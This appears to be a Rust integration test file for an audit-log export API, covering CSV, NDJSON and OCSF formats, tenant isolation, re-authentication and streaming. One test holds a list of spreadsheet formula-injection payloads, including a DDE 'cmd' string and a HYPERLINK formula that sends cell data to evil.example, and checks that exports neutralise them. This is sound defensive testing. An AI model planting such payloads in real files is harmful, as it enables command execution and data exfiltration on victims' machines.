//! The log taken out: whole, safe to open, and no faster than it is read.

use super::{Entry, THEN, outsiders};
use crate::support::{Actor, Customer, TestApp};
use futures::StreamExt as _;
use reqwest::Method;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use uuid::Uuid;

fn path(query: &str) -> String {
    format!("/api/audit/export?{query}")
}

/// The whole of an export as text.
async fn export(who: &Actor, query: &str) -> String {
    let answer = who.get(&path(query)).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    answer.text()
}

fn lines(text: &str) -> Vec<Value> {
    assert!(text.is_empty() || text.ends_with('\n'));
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

/// Reads RFC 4180; every cell stands in quotes.
fn records(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut rest = text;
    while !rest.is_empty() {
        let mut record = Vec::new();
        loop {
            rest = rest.strip_prefix('"').expect("a quoted cell");
            let mut cell = String::new();
            loop {
                let end = rest.find('"').expect("an end of the cell");
                cell.push_str(&rest[..end]);
                rest = &rest[end + 1..];
                match rest.strip_prefix('"') {
                    Some(more) => {
                        cell.push('"');
                        rest = more;
                    }
                    None => break,
                }
            }
            record.push(cell.strip_prefix('\'').map(str::to_owned).unwrap_or(cell));
            match rest.strip_prefix(',') {
                Some(more) => rest = more,
                None => break,
            }
        }
        rest = rest.strip_prefix("\r\n").expect("the end of a record");
        records.push(record);
    }
    records
}

/// Code, outcome and details of what an export left in the log, oldest first.
async fn left_behind(app: &TestApp) -> Vec<(String, String, Value)> {
    let found = "SELECT outcome, sentence, details FROM audit_logs WHERE code = 'audit.export' ORDER BY occurred_at, id";
    sqlx::query_as(found).fetch_all(&mut app.sql().await).await.unwrap()
}

/// Waits until there are so many of them.
async fn until_left(app: &TestApp, count: usize) -> Vec<(String, String, Value)> {
    for _ in 0..600 {
        let left = left_behind(app).await;
        if left.len() >= count {
            return left;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("never so many: {:?}", left_behind(app).await);
}

/// Many entries at once, in the third week of March 2025; `bytes` long each, or a little more.
async fn fill(app: &TestApp, org: Uuid, count: i32, bytes: i32) {
    sqlx::query(
        "INSERT INTO audit_logs (org_id, id, occurred_at, code, outcome, risk_level, sentence)
         SELECT $1, gen_random_uuid(), timestamptz '2025-03-15 00:00:00Z' + make_interval(secs => n / 100), 'asset.update',
                'success', 'low', n || ' ' || repeat('x', $3)
         FROM generate_series(0, $2 - 1) n",
    )
    .bind(org)
    .bind(count)
    .bind(bytes)
    .execute(&mut app.sql().await)
    .await
    .unwrap();
}

#[tokio::test]
async fn ndjson_is_what_the_log_itself_says_oldest_first() {
    let app = TestApp::start().await;
    let acme = app.customer("Acme").await;
    let (technician, machine) = (app.technician().await, app.clock.new_id());
    for minute in 0..5 {
        let at = format!("2025-03-02T08:0{minute}:00.123456Z");
        let target = Some(("asset", machine, "a machine".to_owned()));
        let entry = Entry { target, controls: &["CC6.1"], ..Entry::at(acme.id, &at, "asset.create") };
        entry.by(&technician).from("10.0.0.7").keep(&app).await;
    }
    let analyst = app.security_analyst().await;
    let answer = analyst.get(&path(&format!("format=ndjson&{THEN}"))).await;
    assert_eq!(answer.headers["content-type"], "application/x-ndjson");
    assert_eq!(answer.headers["sallyport-total-events"], "5");
    let disposition = answer.headers["content-disposition"].to_str().unwrap();
    assert!(disposition.starts_with("attachment; filename=\"sallyport-audit-20"), "{disposition}");
    assert!(disposition.ends_with(".ndjson\""), "{disposition}");
    let page = analyst.get(&format!("/api/audit/logs?{THEN}&order=asc")).await.ok();
    assert_eq!(json!(lines(&answer.text())), page["items"]);
    // Every filter of the log narrows the export.
    for (query, count) in [
        ("code=asset.", 5),
        ("code=asset.update", 0),
        ("outcome=refused", 0),
        ("riskLevel=info", 5),
        ("q=DID%20asset", 5),
        ("q=nothing", 0),
        (&format!("actorId={}", technician.id), 5),
        (&format!("actorId={}", analyst.id), 0),
        (&format!("sessionId={}", analyst.id), 0),
        (&format!("targetId={machine}"), 5),
        (&format!("targetId={}", analyst.id), 0),
        ("clientIp=10.0.0.7", 5),
        ("clientIp=::ffff:10.0.0.7", 5),
        ("clientIp=10.0.0.8", 0),
        ("control=CC6.1", 5),
        ("control=CC6.2", 0),
        (&format!("requestId={}", analyst.id), 0),
        (&format!("organizationId={}", acme.id), 5),
        (&format!("organizationId={}", app.provider), 0),
    ] {
        let found = lines(&export(&analyst, &format!("format=ndjson&{THEN}&{query}")).await);
        assert_eq!(found.len(), count, "{query}");
    }
    for wrong in [
        "",
        "format=xml",
        "format=csv&page=1",
        "format=csv&cursor=a",
        "format=csv&from=soon",
        "format=CSV",
        "format=csv&control=CC6",
        "format=csv&clientIp=10.0.0.0/8",
    ] {
        analyst.get(&path(wrong)).await.refused(400, "invalid_input");
    }
}

#[tokio::test]
async fn x01_x02_a_table_is_no_formula_and_comes_back_as_it_was() {
    let app = TestApp::start().await;
    let acme = app.customer("Acme").await;
    let hostile = [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        " =1",
        "'=1",
        "'",
        "\"=1\"",
        "\",\"=1",
        "\"\r\n\"=1\",\"",
        "a,b;c\td",
        "two\r\nlines",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "ünïcödé 漢字 🛡",
    ];
    for (second, text) in hostile.iter().enumerate() {
        let at = format!("2025-03-02T08:00:{second:02}Z");
        let target = Some(("asset", app.clock.new_id(), (*text).to_owned()));
        let actor = Some((app.clock.new_id(), (*text).to_owned()));
        let user_agent = Some((*text).to_owned());
        let (sentence, details) = ((*text).to_owned(), json!({ "said": text }));
        let entry = Entry::at(acme.id, &at, "asset.create");
        Entry { sentence, target, actor, user_agent, details, ..entry }.keep(&app).await;
    }
    let analyst = app.security_analyst().await;
    let answer = analyst.get(&path(&format!("format=csv&{THEN}"))).await;
    assert_eq!(answer.headers["content-type"], "text/csv; charset=utf-8; header=present");
    let text = answer.text();
    let records = records(&text);
    let (head, rows) = records.split_first().unwrap();
    assert_eq!(rows.len(), hostile.len(), "one record each");
    let column = |name: &str| head.iter().position(|column| column == name).unwrap();
    for (row, text) in rows.iter().zip(hostile) {
        assert_eq!(row.len(), head.len());
        for name in ["sentence", "actorName", "targetName", "userAgent"] {
            assert_eq!(row[column(name)], text, "{name}");
        }
        let details: Value = serde_json::from_str(&row[column("details")]).unwrap();
        assert_eq!(details["said"], text);
    }
    // As a spreadsheet begins to read each cell.
    for cell in text.split("\",\"").flat_map(|part| part.split("\"\r\n\"")) {
        let dangerous = "=+-@\t\r\n\0＝＋－＠";
        assert!(!cell.starts_with(|first| dangerous.contains(first)), "{cell:?}");
    }
}

#[tokio::test]
async fn ocsf_says_what_the_schema_asks_for() {
    let app = TestApp::start().await;
    let acme = app.customer("Acme").await;
    let technician = app.technician().await;
    let person = app.clock.new_id();
    let happen = async |second: usize,
                        code: &'static str,
                        outcome: &'static str,
                        risk: &'static str,
                        target: &'static str| {
        let at = format!("2025-03-02T08:00:{second:02}.987654Z");
        let target = Some((target, person, "Grace".to_owned()));
        let entry = Entry { target, ..Entry::at(acme.id, &at, code) };
        entry.by(&technician).from("10.0.0.7").outcome(outcome).risk(risk).keep(&app).await
    };
    let expected = [
        ("auth.login", "refused", "medium", "user", 3002, 1, 3, 2),
        ("auth.logout", "success", "info", "user", 3002, 2, 1, 1),
        ("user.disable", "success", "medium", "user", 3001, 5, 3, 1),
        ("factor.reset", "failed", "high", "user", 3001, 11, 4, 2),
        ("grant.create", "success", "medium", "grant", 3005, 1, 3, 1),
        ("grant.revoke", "success", "low", "grant", 3005, 2, 2, 1),
        ("credential.rotate", "attempt", "info", "credential", 3004, 3, 1, 99),
        ("recording.play", "success", "info", "recording", 6003, 2, 1, 1),
        ("host_key.changed", "refused", "critical", "asset", 3004, 99, 5, 2),
        ("older.kind", "success", "info", "thing", 6003, 99, 1, 1),
    ];
    let mut ids = Vec::new();
    for (second, (code, outcome, risk, target, ..)) in expected.into_iter().enumerate() {
        ids.push(happen(second, code, outcome, risk, target).await);
    }
    let analyst = app.security_analyst().await;
    let answer = analyst.get(&path(&format!("format=ocsf&{THEN}"))).await;
    assert!(answer.headers["content-disposition"].to_str().unwrap().ends_with(".ocsf.ndjson\""));
    let events = lines(&answer.text());
    assert_eq!(events.len(), expected.len());
    for ((event, id), (code, _, _, _, class, activity, severity, status)) in
        events.iter().zip(ids).zip(expected)
    {
        let number = |name: &str| event[name].as_i64().unwrap_or_else(|| panic!("{code}: no {name}"));
        assert_eq!(
            [number("class_uid"), number("activity_id"), number("severity_id"), number("status_id")],
            [class, activity, severity, status],
            "{code}"
        );
        assert_eq!(number("category_uid"), class / 1000);
        assert_eq!(number("type_uid"), class * 100 + activity);
        let instant: chrono::DateTime<chrono::Utc> =
            event["metadata"]["original_time"].as_str().unwrap().parse().unwrap();
        assert_eq!(number("time"), instant.timestamp_millis());
        assert_eq!(event["metadata"]["version"], "1.3.0");
        assert_eq!(event["metadata"]["uid"], json!(id));
        assert_eq!(event["metadata"]["event_code"], code);
        assert_eq!(event["metadata"]["tenant_uid"], json!(acme.id));
        assert_eq!(event["metadata"]["product"]["name"], "Sallyport");
        assert_eq!(event["actor"]["user"]["uid"], json!(technician.id));
        assert_eq!(event["src_endpoint"]["ip"], "10.0.0.7");
        assert!(
            event["message"].is_string() && event["activity_name"].is_string() && event["status"].is_string()
        );
        // What each class requires beside.
        match class {
            3001 | 3002 | 3005 => assert_eq!(event["user"]["name"], "Grace", "{code}"),
            3004 => assert_eq!(event["entity"]["uid"], json!(person), "{code}"),
            _ => assert!(event["api"]["operation"].is_string(), "{code}"),
        }
        if class == 3002 {
            assert_eq!(event["service"]["name"], "Sallyport");
        }
        assert!(!event.as_object().unwrap().values().any(Value::is_null), "{event}");
    }
}

#[tokio::test]
async fn x17_an_export_of_one_organization_holds_no_row_of_another() {
    let app = TestApp::start().await;
    let (acme, bolt) = (app.customer("Acme").await, app.customer("Bolt").await);
    let mut at_acme = BTreeSet::new();
    for second in 10..40 {
        let at = format!("2025-03-02T08:00:{second}Z");
        at_acme.insert(Entry::at(acme.id, &at, "asset.create").keep(&app).await.to_string());
        let secret = Entry { sentence: "zephyrwood".to_owned(), ..Entry::at(bolt.id, &at, "asset.create") };
        Entry { details: json!({ "name": "zephyrwood" }), ..secret }.keep(&app).await;
    }
    let admin = app.member(&acme, "admin").await;
    for (who, narrow) in [
        (&admin, String::new()),
        (&admin, format!("&organizationId={}", acme.id)),
        (&app.super_admin().await, format!("&organizationId={}", acme.id)),
        (&app.security_analyst().await, format!("&organizationId={}", acme.id)),
    ] {
        for format in ["csv", "ndjson", "ocsf"] {
            let answer = who.get(&path(&format!("format={format}&{THEN}{narrow}"))).await;
            assert_eq!(answer.headers["sallyport-total-events"], "30");
            let text = answer.text();
            assert!(
                !text.contains("zephyrwood")
                    && !text.contains(&bolt.id.to_string())
                    && !text.contains("Bolt")
            );
            let ids: Vec<String> = match format {
                "csv" => records(&text)[1..].iter().map(|row| row[0].clone()).collect(),
                "ndjson" => lines(&text).iter().map(|one| one["id"].as_str().unwrap().to_owned()).collect(),
                _ => lines(&text)
                    .iter()
                    .map(|one| one["metadata"]["uid"].as_str().unwrap().to_owned())
                    .collect(),
            };
            assert_eq!(ids.len(), 30);
            assert_eq!(ids.into_iter().collect::<BTreeSet<_>>(), at_acme);
        }
    }
    // All there is of one's own, the times left out: nothing of anybody else's either.
    let whole = export(&admin, "format=ndjson").await;
    assert!(lines(&whole).iter().all(|one| one["organizationId"] == json!(acme.id)), "{whole}");
    // Another's organization is none, in the same words as one that is not there.
    for id in [bolt.id, app.provider, app.clock.new_id()] {
        let refusal =
            admin.get(&path(&format!("format=csv&organizationId={id}"))).await.refused(404, "not_found");
        assert_eq!(refusal["message"], "There is no such organization, or you may not see it.");
    }
    // An entry of a customer's export stands in the customer's log, whoever asked for it.
    let of_acme = "SELECT count(*) FROM audit_logs WHERE code = 'audit.export' AND org_id = $1";
    let count: i64 = sqlx::query_scalar(of_acme).bind(acme.id).fetch_one(&mut app.sql().await).await.unwrap();
    assert_eq!(count, 2 * 13);
}

#[tokio::test]
async fn who_may_export_must_have_proved_lately_who_they_are_and_leaves_two_entries() {
    let app = TestApp::start().await;
    let acme = app.customer("Acme").await;
    Entry::at(acme.id, "2025-03-02T08:00:00Z", "asset.create").keep(&app).await;
    let wish = path(&format!("format=csv&{THEN}"));
    for who in outsiders(&app, &acme).await {
        who.get(&wish).await.refused(403, "forbidden");
    }
    app.stranger().get(&wish).await.refused(401, "unauthenticated");
    assert_eq!(left_behind(&app).await, []);
    let analyst = app.security_analyst().await;
    let stale =
        "UPDATE user_sessions SET authenticated_at = now() - interval '11 minutes' WHERE user_id = $1";
    sqlx::query(stale).bind(analyst.id).execute(&mut app.sql().await).await.unwrap();
    analyst.get(&wish).await.refused(403, "step_up_required");
    assert_eq!(left_behind(&app).await, []);
    for who in [app.super_admin().await, app.security_analyst().await, app.member(&acme, "admin").await] {
        let before = left_behind(&app).await.len();
        export(&who, &format!("format=csv&{THEN}&code=asset.create")).await;
        // Both are there when the last byte is.
        let left = left_behind(&app).await.split_off(before);
        let outcomes: Vec<_> = left.iter().map(|(outcome, ..)| outcome.as_str()).collect();
        assert_eq!(outcomes, ["attempt", "success"]);
        assert_eq!((&left[0].2["total"], &left[0].2["wanted"]["code"]), (&json!(1), &json!("asset.create")));
        assert_eq!(left[1].2, json!({ "format": "csv", "events": 1 }));
        assert!(left[1].1.ends_with(": 1 entry as csv"), "{}", left[1].1);
    }
}

#[tokio::test]
async fn an_export_of_many_is_whole_and_in_order() {
    let app = TestApp::start().await;
    let acme = app.customer("Acme").await;
    fill(&app, acme.id, 12_345, 40).await;
    let analyst = app.security_analyst().await;
    let wish = "format=ndjson&from=2025-03-14T00:00:00Z&to=2025-03-20T00:00:00Z";
    let response = analyst.request(Method::GET, &path(wish)).send().await.unwrap();
    assert_eq!(response.headers()["sallyport-total-events"], "12345");
    assert!(response.content_length().is_none(), "nobody waited for the end to know its length");
    let events = lines(&response.text().await.unwrap());
    assert_eq!(events.len(), 12_345);
    let key = |one: &Value| {
        (one["occurredAt"].as_str().unwrap().to_owned(), one["id"].as_str().unwrap().to_owned())
    };
    let keys: Vec<_> = events.iter().map(key).collect();
    assert!(keys.is_sorted());
    assert_eq!(keys.iter().collect::<BTreeSet<_>>().len(), 12_345);
    let numbers: BTreeSet<&str> =
        events.iter().map(|one| one["sentence"].as_str().unwrap().split(' ').next().unwrap()).collect();
    assert_eq!(numbers.len(), 12_345);
    // A multiple of a piece ends as it should, too.
    let exact =
        "DELETE FROM audit_logs WHERE code = 'asset.update' AND split_part(sentence, ' ', 1)::int >= 12000";
    sqlx::query(exact).execute(&mut app.sql().await).await.unwrap();
    assert_eq!(lines(&export(&analyst, wish).await).len(), 12_000);
}

/// Begins an export of 40 MB and more in 20,000 entries, of which at most a few buffers fit between here and there.
async fn begin_long(app: &TestApp, who: &Actor, acme: &Customer) -> reqwest::Response {
    fill(app, acme.id, 20_000, 2_000).await;
    let wish =
        format!("format=csv&organizationId={}&from=2025-03-14T00:00:00Z&to=2025-03-20T00:00:00Z", acme.id);
    let response = who.request(Method::GET, &path(&wish)).send().await.unwrap();
    assert_eq!(response.status(), 200);
    response
}

#[tokio::test]
async fn nothing_is_read_that_nobody_takes() {
    let app = TestApp::start().await;
    let acme = app.customer("Acme").await;
    let analyst = app.security_analyst().await;
    let response = begin_long(&app, &analyst, &acme).await;
    let mut bytes = response.bytes_stream();
    bytes.next().await.unwrap().unwrap();
    drop(bytes);
    // Whoever goes away has taken what fits into the buffers between, and no more was made.
    let left = until_left(&app, 2).await;
    assert_eq!(left[1].0, "failed");
    assert!(left[1].1.ends_with(": the reader went away"), "{}", left[1].1);
    let told = left[1].2["events"].as_i64().unwrap();
    assert!(told < 15_000, "{told} of 20,000 entries were made for nobody");
}

#[tokio::test]
async fn who_may_not_any_more_gets_no_more_and_no_whole_file() {
    let app = TestApp::start().await;
    let acme = app.customer("Acme").await;
    for (number, end) in [
        "UPDATE users SET role = 'technician' WHERE id = $1",
        "UPDATE users SET status = 'disabled' WHERE id = $1",
        "UPDATE user_sessions SET revoked_at = now() WHERE user_id = $1",
        "UPDATE users SET epoch = epoch + 1 WHERE id = $1",
    ]
    .into_iter()
    .enumerate()
    {
        let clear = "DELETE FROM audit_logs WHERE code = 'asset.update'";
        sqlx::query(clear).execute(&mut app.sql().await).await.unwrap();
        let analyst = app.security_analyst().await;
        let response = begin_long(&app, &analyst, &acme).await;
        sqlx::query(end).bind(analyst.id).execute(&mut app.sql().await).await.unwrap();
        // The rest of what was made before comes; then the line breaks instead of ending.
        assert!(response.bytes().await.is_err(), "{end}");
        let left = until_left(&app, 2 * (number + 1)).await;
        let last = left.last().unwrap();
        assert_eq!(last.0, "refused", "{end}: {last:?}");
        assert!(last.2["events"].as_i64().unwrap() < 20_000, "{last:?}");
    }
}
